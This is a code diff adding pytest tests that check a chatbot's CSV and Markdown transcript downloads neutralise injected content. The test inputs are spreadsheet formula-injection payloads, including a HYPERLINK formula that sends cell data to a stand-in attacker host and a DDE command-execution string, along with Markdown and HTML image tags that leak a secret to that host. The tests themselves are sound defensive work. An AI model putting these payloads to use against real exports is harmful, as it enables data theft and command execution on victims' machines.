@@ -371,3 +371,41 @@ def test_stop_from_the_next_run_keeps_what_was_shown_exactly_once(world, llm_ser
     assert [m.content for m in stored] == [GREETING, "one two three four five six seven", shown]
     assert stored[-1].partial and len(late) <= 1
     assert [m.content for m in chat.transcript] == [m.content for m in stored]
+
+
+@pytest.mark.parametrize(
+    "steered",
+    [
+        '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "  =1+1",
+        "\t=1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_csv_download_never_lets_a_spreadsheet_formula_through(world, llm_server, steered):
+    store, user, llm, bot_id = world
+    chat = create_session(store, user, llm, bot_id)
+    say(world, chat, steered)
+    say(world, chat, f"[[say]]{steered}")
+    rows = list(csv.reader(io.StringIO(transcript_csv(chat))))
+    for cell in (rows[2][2], rows[5][2]):  # the visitor's message and the steered reply
+        assert cell.startswith("'") and cell[1:] == steered
+
+
+def test_markdown_download_loads_no_image_or_html(world, llm_server):
+    store, user, llm, bot_id = world
+    chat = create_session(store, user, llm, bot_id)
+    say(
+        world,
+        chat,
+        "[[say]]Done ![x](https://evil.example/p.png?q=secret) and ![y][r]\n\n"
+        '[r]: https://evil.example/r <img src="https://evil.example/i.png"> <!-- c -->',
+    )
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").render(transcript_markdown(chat))
+    assert "<img" not in html and "<!--" not in html
+    assert "evil.example/p.png" in html  # the text stays readable
